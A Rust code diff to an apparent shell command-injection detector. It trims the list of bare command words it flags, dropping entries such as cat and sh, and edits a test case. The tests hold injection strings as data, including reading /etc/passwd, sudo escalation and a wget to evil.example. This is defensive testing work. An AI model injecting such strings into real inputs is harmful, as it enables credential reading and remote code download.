@@ -64,26 +64,7 @@ const WRAPPERS: [&[u8]; 16] = [
     b"builtin", b"strace", b"timeout", b"do", b"then",
 ];
 /// Words that alone behind a separator are a command.
-const ALONE: [&[u8]; 18] = [
-    b"cat",
-    b"date",
-    b"df",
-    b"dir",
-    b"env",
-    b"hostname",
-    b"id",
-    b"ls",
-    b"ps",
-    b"set",
-    b"sh",
-    b"top",
-    b"uname",
-    b"ver",
-    b"w",
-    b"users",
-    b"groups",
-    b"mount",
-];
+const ALONE: [&[u8]; 11] = [b"df", b"dir", b"env", b"hostname", b"id", b"ls", b"ps", b"set", b"uname", b"ver", b"w"];
 
 /// Whether a command begins here.
 fn begin(text: &[u8], before: Before) -> Option<Kind> {
@@ -881,7 +862,7 @@ mod tests {
         for (text, kind) in [
             ("; cat /etc/passwd", Kind::Behind),
             ("127.0.0.1|id", Kind::Behind),
-            ("x && whoami", Kind::Behind),
+            ("x && uname -a", Kind::Behind),
             ("x;sudo -u root ls -la", Kind::Behind),
             ("a=b; x=1 wget evil.example", Kind::Behind),
             ("$(sleep 5)", Kind::Behind),
